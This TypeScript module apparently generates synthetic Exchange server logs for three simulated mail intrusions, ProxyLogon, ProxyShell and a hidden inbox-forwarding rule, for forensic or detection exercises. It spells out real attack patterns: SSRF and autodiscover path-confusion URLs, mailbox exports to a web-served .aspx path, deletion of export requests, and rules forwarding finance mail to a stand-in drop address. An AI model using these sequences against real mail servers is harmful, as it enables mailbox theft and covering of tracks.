import { HOUR, MINUTE, SECOND, at } from "./clock.ts";
import { exportEvents, installed } from "./build.ts";
import type { Build, Span } from "./build.ts";
import { forge, writeChain, writeMailTheft } from "./chain.ts";
import type { ChainPlace } from "./chain.ts";
import { MAIL_DOMAIN } from "./district.ts";
import type { Person } from "./district.ts";
import { httpProxyLog } from "./exchange-logs.ts";
import {
  ADMINISTRATOR,
  callerOf,
  forwardedMessage,
  mailCommand,
  owaStep,
  shareWrite,
  STEP_MS,
  type MailScene,
} from "./mail-acts.ts";
import { MAY, openFresh, openServer, personOf } from "./mail-stage.ts";
import { INTRUDER } from "./scenario-single.ts";
import { CU19, CU19_MARCH } from "./stage.ts";
import type { Stage } from "./stage.ts";
import { serve } from "./web-request.ts";

/** Ten days are enough for mail: each scenario has its own. */
const MARCH: Span = { fromMs: at("2021-02-25T00:00:00Z"), untilMs: at("2021-03-07T00:00:00Z") };
const AUGUST: Span = { fromMs: at("2021-08-13T00:00:00Z"), untilMs: at("2021-08-22T00:00:00Z") };

/** The flaw of March 2021: two mailboxes read by forged requests, one of them exported, and the request for it removed. */
export function writeProxylogonMailTheft(build: Build): void {
  const open = openServer(build, [installed(CU19, "2021-01-16T19:02:00Z")], MARCH);
  const { stage } = open;
  const place: ChainPlace = { front: stage, back: stage, ledger: build.ledger };
  const startMs = at("2021-03-02T21:40:11.120Z");
  const victims = ["a.whitcombe", "t.mcallister"].map((name) => personOf(stage, name).mail);
  writeChain(place, { startMs, attacker: INTRUDER, mailbox: victims[0] ?? "" });
  victims.forEach((mailbox, index) => {
    writeMailTheft(place, { startMs: startMs + (20 + index * 9) * MINUTE, attacker: INTRUDER, mailbox });
  });
  writeExport(place, startMs + 55 * MINUTE);
  exportEvents(build, open, "evtx");
}

function writeExport(place: ChainPlace, startMs: number): void {
  const scene: MailScene = { stage: place.front, ledger: place.ledger };
  const steps = [
    [
      "New-ManagementRoleAssignment",
      [
        ["Role", "Mailbox Import Export"],
        ["User", "Administrator"],
      ],
    ],
    [
      "New-MailboxExportRequest",
      [
        ["Mailbox", `a.whitcombe@${MAIL_DOMAIN}`],
        ["FilePath", "\\\\LUSD-EX01\\c$\\Windows\\Temp\\aw0302.pst"],
        ["Priority", "High"],
      ],
    ],
    [
      "Remove-MailboxExportRequest",
      [
        ["Identity", "a.whitcombe\\MailboxExport"],
        ["Confirm", "False"],
      ],
    ],
  ] as const;
  steps.forEach(([cmdlet, parameters], index) => {
    const timeMs = startMs + index * 4 * MINUTE;
    const { requestBytes, responseBytes } = { requestBytes: 2_400, responseBytes: 1_100 };
    forge(place, {
      timeMs: timeMs + 300,
      attacker: INTRUDER,
      agent: "python-requests/2.25.1",
      stem: "/ecp/y.js",
      anchor: `a]@${place.back.server.fqdn}:444/powershell?serializationLevel=Full#`,
      status: 200,
      backEndStatus: 200,
      what: "ssrf-powershell",
      requestBytes,
      responseBytes,
      backEnd: { stem: "/powershell", query: "serializationLevel=Full" },
    });
    mailCommand(scene, { timeMs, caller: ADMINISTRATOR, cmdlet, parameters, planted: "mail-command" });
  });
}

const SHELL_INTRUDER = "203.0.113.91";

/** The flaw of August 2021: a role assigned, a draft exported as a page, then two whole mailboxes. */
export function writeProxyshellExport(build: Build): void {
  const open = openServer(build, [installed(CU19_MARCH, "2021-03-09T22:00:00Z")], AUGUST);
  const { stage } = open;
  const scene: MailScene = { stage, ledger: build.ledger };
  const startMs = at("2021-08-17T02:14:07.400Z");
  const domain = "vantage.example";
  const mail = `?@${domain}/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@${domain}`.slice(1);
  confuse(scene, { timeMs: startMs, query: mail, method: "GET", bytes: 612 });
  const commands = shellCommands(stage);
  commands.forEach((command, index) => {
    const timeMs = startMs + (index + 1) * 2 * MINUTE;
    const token = stage.random.text("ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnpqrstuvwxyz23456789", 88);
    const query = `@${domain}/powershell/?X-Rps-CAT=${token}&Email=autodiscover/autodiscover.json%3F@${domain}`;
    confuse(scene, { timeMs: timeMs + 420, query, method: "POST", bytes: 1_840 });
    mailCommand(scene, { timeMs, caller: ADMINISTRATOR, ...command, planted: "mail-command" });
  });
  shareWrite(scene, { timeMs: startMs + 21 * MINUTE, share: "c$", file: "inetpub\\temp\\kl0817.pst" });
  exportEvents(build, open, "evtx");
}

type Given = Pick<Parameters<typeof mailCommand>[1], "cmdlet" | "parameters">;

function shellCommands(stage: Stage): readonly Given[] {
  const page = "\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\rqtr.aspx";
  const whole = (name: string, file: string): Given => ({
    cmdlet: "New-MailboxExportRequest",
    parameters: [
      ["Mailbox", personOf(stage, name).mail],
      ["FilePath", `\\\\127.0.0.1\\c$\\inetpub\\temp\\${file}`],
    ],
  });
  return [
    {
      cmdlet: "New-ManagementRoleAssignment",
      parameters: [
        ["Role", "Mailbox Import Export"],
        ["User", "Administrator"],
      ],
    },
    {
      cmdlet: "New-MailboxExportRequest",
      parameters: [
        ["Mailbox", personOf(stage, "k.lemaire").mail],
        ["IncludeFolders", "#Drafts#"],
        ["ContentFilter", "(Subject -eq 'fxzq')"],
        ["ExcludeDumpster", "True"],
        ["FilePath", page],
      ],
    },
    whole("k.lemaire", "kl0817.pst"),
    whole("j.blackwood", "jb0817.pst"),
    {
      cmdlet: "Remove-MailboxExportRequest",
      parameters: [
        ["Identity", "k.lemaire\\MailboxExport"],
        ["Confirm", "False"],
      ],
    },
  ];
}

/** A request that autodiscover passes on to another service, without a sign-in. */
function confuse(
  { stage, ledger }: MailScene,
  call: {
    readonly timeMs: number;
    readonly query: string;
    readonly method: "GET" | "POST";
    readonly bytes: number;
  },
): void {
  const { requestId } = serve(stage, {
    timeMs: call.timeMs,
    tookMs: 210,
    protocol: "Autodiscover",
    method: call.method,
    stem: "/autodiscover/autodiscover.json",
    query: call.query,
    user: "",
    clientAddress: SHELL_INTRUDER,
    agent: "python-requests/2.26.0",
    status: 200,
    authentication: "Anonymous",
    anchor: "ServerVersion~Version 15.1 (Build 2176.0)",
    routingHint: "TargetBackend-ServerVersion",
    requestBytes: 1_320,
    responseBytes: call.bytes,
    backEnd: {
      stem: call.method === "GET" ? "/mapi/nspi/" : "/powershell/",
      query: "",
      user: "NT AUTHORITY\\SYSTEM",
    },
  });
  ledger.plant(
    "proxyshell-request",
    httpProxyLog(stage, "Autodiscover", call.timeMs).path,
    call.timeMs,
    requestId,
  );
}

const THIEF = "203.0.113.145";
const THIEF_AGENT =
  "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/90.0.4430.93 Safari/537.36";
const DROP = "invoices.archive@quick-mail.example";

/** No flaw at all: a stolen password, a rule that hides what it sends on, and a forward of all mail. */
export function writeRuleForwarding(build: Build): void {
  const open = openFresh(build, MAY);
  const { stage } = open;
  const scene: MailScene = { stage, ledger: build.ledger };
  const victim = personOf(stage, "c.lindqvist");
  const startMs = at("2021-05-12T01:22:40.250Z");
  const visit = { person: victim, address: THIEF, agent: THIEF_AGENT, planted: "stolen-session" } as const;
  const actions = ["FindFolder", "FindItem", "GetItem", "GetItem", "FindItem", "GetItem"] as const;
  actions.forEach((action, index) => {
    const bytes = action === "GetItem" ? 64_000 + index * 7_900 : 22_000;
    const query = `action=${action}&EP=1&ID=-${index + 1}&AC=1`;
    owaStep(scene, { ...visit, timeMs: startMs + index * STEP_MS, stem: "/owa/service.svc", query, bytes });
  });
  writeHiddenForward(scene, { ...visit, timeMs: startMs + 5 * MINUTE });
  writeForwards(scene, victim, startMs + 6 * HOUR);
  exportEvents(build, open, "evtx");
}

function writeHiddenForward(
  scene: MailScene,
  visit: {
    readonly timeMs: number;
    readonly person: Person;
    readonly address: string;
    readonly agent: string;
    readonly planted: "stolen-session";
  },
): void {
  const caller = callerOf(visit.person);
  const rule = "/ecp/RulesEditor/InboxRules.svc/NewObject";
  owaStep(scene, { ...visit, stem: rule, query: "ActID=1", bytes: 1_900 });
  mailCommand(scene, {
    timeMs: visit.timeMs - 150,
    caller,
    cmdlet: "New-InboxRule",
    parameters: [
      ["Name", "."],
      ["SubjectOrBodyContainsWords", "invoice,payment,bank"],
      ["ForwardTo", DROP],
      ["MoveToFolder", "c.lindqvist:\\RSS Feeds"],
      ["MarkAsRead", "True"],
    ],
    planted: "mail-command",
    page: rule,
  });
  const forwardMs = visit.timeMs + 90 * SECOND;
  const forward = "/ecp/DDI/DDIService.svc/SetObject";
  owaStep(scene, { ...visit, timeMs: forwardMs, stem: forward, query: "schema=MailForward", bytes: 1_400 });
  mailCommand(scene, {
    timeMs: forwardMs - 150,
    caller,
    cmdlet: "Set-Mailbox",
    parameters: [
      ["Identity", caller.canonical],
      ["ForwardingSmtpAddress", `smtp:${DROP}`],
      ["DeliverToMailboxAndForward", "True"],
    ],
    planted: "mail-command",
    page: forward,
  });
}

function writeForwards(scene: MailScene, owner: Person, startMs: number): void {
  const mails = [
    ["office3@partner-district.example", "Invoice 2021-0388", 48_211, "rule"],
    ["office7@partner-district.example", "Bank details for the new contract", 91_540, "rule"],
    [`p.ramanathan@${MAIL_DOMAIN}`, "Budget draft v4", 212_903, "property"],
    ["office1@partner-district.example", "Payment reminder", 17_020, "property"],
  ] as const;
  mails.forEach(([from, subject, bytes, by], index) => {
    forwardedMessage(scene, {
      timeMs: startMs + index * 9 * HOUR,
      owner,
      from,
      to: DROP,
      subject,
      bytes,
      by,
    });
  });
}
